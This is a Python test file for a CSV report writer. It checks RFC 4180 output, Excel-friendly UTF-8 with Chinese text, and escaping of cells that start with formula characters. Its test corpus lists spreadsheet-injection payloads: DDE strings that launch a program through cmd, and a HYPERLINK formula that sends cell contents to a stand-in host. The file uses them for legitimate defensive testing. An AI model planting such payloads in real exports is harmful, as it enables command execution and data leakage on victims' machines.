"""CSV files: RFC 4180, Chinese in Excel, and no cell that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from station.reports import csv_tables
from station.reports.csv_tables import FORMULA, as_it_was, cell, write_table
from station.reports.lines import CountLine, ReworkLine
from tests.reports.made import rework

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "=1+1",
    "@SUM(1)",
    "'=1+1",
    ";=1+1",
    '"=1+1"',
    "-",
    "=",
]
TEXTS = st.text(
    st.one_of(
        st.sampled_from("=+-@\t\r\n',;\"' \u00a0\ufeff=+-@"),
        st.characters(codec="utf-8"),
        st.sampled_from(string.ascii_letters),
    ),
    max_size=40,
)


def written(*lines: ReworkLine) -> bytes:
    out = io.BytesIO()
    assert write_table(out, ReworkLine, lines) == len(lines)
    return out.getvalue()


def read_back(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def harmless(text: str) -> bool:
    return not text.lstrip(" \u00a0\u3000\u200b\ufeff\0").startswith(FORMULA)


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    shown = cell(text)
    assert harmless(shown), repr(shown)
    assert as_it_was(shown) == text


def test_the_corpus_is_not_harmless_by_itself() -> None:
    assert sum(not harmless(text) for text in CORPUS) >= 15


@settings(max_examples=100, deadline=None)
@given(TEXTS, TEXTS, TEXTS)
def test_whatever_is_written_is_read_back_and_is_no_formula(a: str, b: str, c: str) -> None:
    content = written(rework(what=a, reason=b, by=c), rework(what=c, reason=a, by=b))
    head, *rows = read_back(content)
    assert [len(row) for row in rows] == [len(head)] * 2
    assert all(harmless(text) for row in rows for text in row)
    got = [
        tuple(as_it_was(row[head.index(name)]) for name in ("what", "reason", "by")) for row in rows
    ]
    assert got == [(a, b, c), (c, a, b)]


def test_the_file_is_what_excel_and_rfc_4180_want() -> None:
    content = written(rework(reason='说 "好", 再说', by="王小明"), rework(reason="one\r\ntwo"))
    assert content.startswith("\ufefforder,seq,at,".encode())
    assert content.endswith(b"\r\n")
    assert '"说 ""好"", 再说",王小明\r\n'.encode() in content
    assert content.count(b"\n") == content.count(b"\r\n") == 4  # one of them within quotes


def test_numbers_stand_bare_even_below_zero() -> None:
    assert (cell(-5), cell(0.25), cell(True), cell(False)) == ("-5", "0.25", "yes", "no")
    out = io.BytesIO()
    write_table(out, CountLine, [CountLine("O", 0, "bottle", "free", "", 12)])
    assert out.getvalue().decode("utf-8-sig").splitlines()[1] == "O,0,bottle,free,,12"


def test_a_table_without_lines_has_its_head() -> None:
    assert read_back(written()) == [
        ["order", "seq", "at", "what", "container", "codes", "refs", "reason", "by"]
    ]


def test_who_waits_for_a_long_table_hears_how_far_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_tables, "TOLD_ROWS", 2)
    heard: list[int] = []
    assert write_table(io.BytesIO(), ReworkLine, [rework()] * 5, heard.append) == 5
    assert heard == [2, 4]
